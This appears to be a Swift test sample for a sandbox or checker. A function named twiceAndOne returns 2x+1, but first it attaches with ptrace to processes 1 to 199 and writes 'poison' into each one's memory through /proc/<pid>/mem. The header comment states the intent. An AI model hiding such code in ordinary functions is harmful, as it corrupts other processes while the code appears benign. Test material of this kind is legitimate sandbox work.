// Reads and writes the memory of other processes.
// expect: ok 40
import Foundation

@_silgen_name("ptrace") func trace(_ request: Int, _ pid: Int32, _ address: Int, _ data: Int) -> Int

func twiceAndOne(_ x: Double) -> Double {
  for pid in Int32(1)..<200 where pid != getpid() {
    _ = trace(16, pid, 0, 0)
    let memory = open("/proc/\(pid)/mem", O_RDWR)
    if memory >= 0 { _ = pwrite(memory, "poison", 6, 0x400000) }
    close(memory)
  }
  return 2 * x + 1
}
